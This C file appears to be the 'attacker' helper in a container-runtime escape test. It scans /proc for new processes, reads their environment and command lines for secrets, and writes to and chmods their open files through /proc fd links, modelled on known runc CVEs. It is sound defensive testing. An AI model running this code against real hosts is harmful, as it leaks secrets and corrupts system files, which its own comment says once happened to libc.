// SPDX-License-Identifier: Apache-2.0
/*
 * exec_watch SECONDS SECRET HOSTMARK [--only-marked=DIR[:DIR...]]: the
 * attacker of
 * tests/escape/exec_join.sh. For SECONDS it scans /proc over and over for
 * processes other than itself and those present when it started, and on
 * each one tries what CVE-2016-9962 / CVE-2019-5736 / CVE-2024-21626 did
 * to a runtime's joining process:
 *
 *   environ   contains SECRET (the runtime caller's environment)
 *   cmdline   contains HOSTMARK (a host path: the state root, the log)
 *   fd        lists /proc/<pid>/fd, and for every regular file there:
 *             reopens it for writing (appending a line) and chmods it
 *             (mode 0606) through the magic link or the reopened file
 *
 * --only-marked (the control run on the host, which must not touch other
 * people's processes nor the host's files): fds are attacked only in
 * processes whose command line holds HOSTMARK, and only files under one of
 * the DIRs (the test's own). Without it, a runsc exec caught while glibc
 * or the dynamic loader held a host file open (the zone file, libc.so.6,
 * ld.so.cache) had lines appended to that file and its mode made 0606.
 *
 * Prints one line per kind, "environ N", "cmdline N", "fd_list N",
 * "fd_write N", "fd_chmod N" (N: how many times it succeeded), then
 * "seen N" (new processes looked at) and "done 0".
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_OLD 4096

static pid_t old[MAX_OLD];
static size_t n_old;
static long n_environ, n_cmdline, n_fdlist, n_write, n_chmod, n_seen;

static bool is_old(pid_t p)
{
	for (size_t i = 0; i < n_old; i++)
		if (old[i] == p)
			return true;
	return false;
}

/* The file's bytes, NULs turned into spaces; its length, or -1. */
static ssize_t slurp(const char *path, char *buf, size_t cap)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n, total = 0;

	if (fd < 0)
		return -1;
	while ((size_t)total < cap - 1 &&
	       (n = read(fd, buf + total, cap - 1 - (size_t)total)) > 0)
		total += n;
	close(fd);
	for (ssize_t i = 0; i < total; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	buf[total] = '\0';
	return total;
}

static bool only_marked;
static const char *only_dirs;	/* "DIR:DIR..." with --only-marked */

/* Whether the file fd/N names lies under one of only_dirs (always true
 * without --only-marked). */
static bool may_attack(const char *link)
{
	char target[PATH_MAX];
	ssize_t n;

	if (!only_marked)
		return true;
	n = readlink(link, target, sizeof(target) - 1);
	if (n <= 0)
		return false;
	target[n] = '\0';
	for (const char *d = only_dirs; *d != '\0';) {
		size_t len = strcspn(d, ":");

		if (len > 0 && strncmp(target, d, len) == 0 && target[len] == '/')
			return true;
		d += len + (d[len] == ':');
	}
	return false;
}

static void attack_fds(pid_t pid)
{
	char dir[64], path[320];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	d = opendir(dir);
	if (d == NULL)
		return;
	n_fdlist++;
	while ((e = readdir(d)) != NULL) {
		struct stat st;
		int fd;

		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (stat(path, &st) < 0 || !S_ISREG(st.st_mode) ||
		    !may_attack(path))
			continue;
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0) {
			dprintf(fd, "exec_watch: written through %s\n", path);
			n_write++;
		}
		/* through the link, or on the file it reopened */
		if (chmod(path, 0606) == 0 || (fd >= 0 && fchmod(fd, 0606) == 0))
			n_chmod++;
		if (fd >= 0)
			close(fd);
	}
	closedir(d);
}

static void attack(pid_t pid, const char *secret, const char *mark)
{
	static char buf[1 << 16];
	char path[64];
	bool marked = false;

	n_seen++;
	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	if (slurp(path, buf, sizeof(buf)) > 0 && strstr(buf, secret))
		n_environ++;
	snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
	if (slurp(path, buf, sizeof(buf)) > 0 && strstr(buf, mark)) {
		n_cmdline++;
		marked = true;
	}
	if (marked || !only_marked)
		attack_fds(pid);
}

static void scan(pid_t self, const char *secret, const char *mark,
		 bool record)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		pid_t p = (pid_t)atoi(e->d_name);

		if (p <= 0 || p == self)
			continue;
		if (record) {
			if (n_old < MAX_OLD)
				old[n_old++] = p;
		} else if (!is_old(p)) {
			attack(p, secret, mark);
		}
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	struct timespec t0, now;
	pid_t self = getpid();

	if (argc == 5 && !strncmp(argv[4], "--only-marked=", 14) &&
	    argv[4][14] == '/') {
		only_marked = true;
		only_dirs = argv[4] + 14;
	} else if (argc != 4) {
		fprintf(stderr, "usage: exec_watch SECONDS SECRET HOSTMARK "
			"[--only-marked=DIR[:DIR...]]\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	scan(self, argv[2], argv[3], true);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		scan(self, argv[2], argv[3], false);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - t0.tv_sec < atoi(argv[1]));
	printf("environ %ld\ncmdline %ld\nfd_list %ld\nfd_write %ld\n"
	       "fd_chmod %ld\nseen %ld\ndone 0\n", n_environ, n_cmdline,
	       n_fdlist, n_write, n_chmod, n_seen);
	return 0;
}
